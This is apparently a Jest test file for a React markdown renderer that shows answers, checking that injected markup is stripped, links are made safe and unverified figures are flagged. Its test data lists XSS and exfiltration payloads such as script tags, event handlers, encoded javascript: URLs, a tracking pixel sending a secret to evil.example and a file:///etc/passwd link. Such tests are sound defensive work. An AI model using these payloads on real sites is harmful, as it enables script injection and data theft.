import '../../test/browser.ts';
import { describe, expect, test } from '@jest/globals';
import { render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router';
import { AnswerText } from './markdown.tsx';

const show = (text: string, doubtful: Parameters<typeof AnswerText>[0]['doubtful'] = []) =>
  render(
    <MemoryRouter>
      <AnswerText text={text} doubtful={doubtful} />
    </MemoryRouter>,
  ).container;

const attacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name=a></form>',
  '![pixel](https://evil.example/p.png?d=secret)',
  '![pixel][ref]\n\n[ref]: https://evil.example/p.png',
  '![data](data:image/png;base64,AAAA)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](/api/v1/auth/logout)',
  '[x](/operate/review/../../x)',
  '[x](https://good.example@evil.example/)',
  '<javascript:alert(1)>',
  '<div style="position:fixed;inset:0" id="main" class="fixed">x</div>',
];

describe('an answer is words, lists and checked links', () => {
  test.each(attacks)('error: %j becomes neither script, image, frame nor link', (text) => {
    const container = show(`before\n\n${text}\n\nafter`);
    expect(
      container.querySelector('script, img, svg:not(.lucide), iframe, style, form, input, object, embed, a'),
    ).toBeNull();
    expect(container.querySelector('[onerror], [onload], [style], [id], [src]')).toBeNull();
    expect((window as { hacked?: number }).hacked).toBeUndefined();
    expect(container.textContent).toContain('before');
    expect(container.textContent).toContain('after');
  });

  test('default: structure is kept, headings are not the page’s', () => {
    const container = show('# Title\n\n- one\n- **two**\n\n1. first\n\n`code`\n\n> quote');
    expect(container.querySelector('h1')).toBeNull();
    expect(screen.getByText('Title')).toBeTruthy();
    expect(container.querySelectorAll('li')).toHaveLength(3);
    expect(container.querySelector('strong')?.textContent).toBe('two');
    expect(container.querySelector('code')?.textContent).toBe('code');
  });

  test('behavior: lines between bars are a table of texts, and their cells are no markup', () => {
    const container = show(
      'A sentence.\n\n| Figure | Value |\n| --- | --- |\n| APY | 9 % |\n| **x** | <b>1</b> |\n\nThe end.',
    );
    expect(screen.getAllByRole('columnheader').map(({ textContent }) => textContent)).toEqual(['Figure', 'Value']);
    expect(screen.getAllByRole('row').map(({ textContent }) => textContent)).toEqual([
      'FigureValue',
      'APY9%',
      '**x**<b>1</b>',
    ]);
    expect(container.querySelector('b, strong')).toBeNull();
    expect(container.textContent).toContain('The end.');
  });

  test('behavior: a web link says its host and leaks nothing; a prepared call opens here', () => {
    show('[docs](https://example.org/a) and [review](/operate/review/abc-123)');
    const docs = screen.getByRole('link', { name: /docs/ });
    expect(docs.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(docs.textContent).toContain('(example.org)');
    const review = screen.getByRole('link', { name: 'review' });
    expect([review.getAttribute('href'), review.getAttribute('target')]).toEqual(['/operate/review/abc-123', null]);
  });

  test('behavior: untraced figures are marked inside lists and emphasis, as the server marked them or by their place', () => {
    const container = show('- APY **[unverified: 9 %]**\n- 12 holders', [{ figure: '12', context: '12 holders' }]);
    expect([...container.querySelectorAll('mark')].map(({ textContent }) => textContent)).toEqual([
      '9% (not traced to a figure)',
      '12 (not traced to a figure)',
    ]);
  });

  test('behavior: an answer cannot mark its own figures as traced or hide the mark in a link', () => {
    const container = show('[[unverified: 5 %]](https://example.org) <mark>6 %</mark>', [
      { figure: '5 %', context: '' },
    ]);
    expect(container.querySelectorAll('mark')).toHaveLength(1);
  });
});
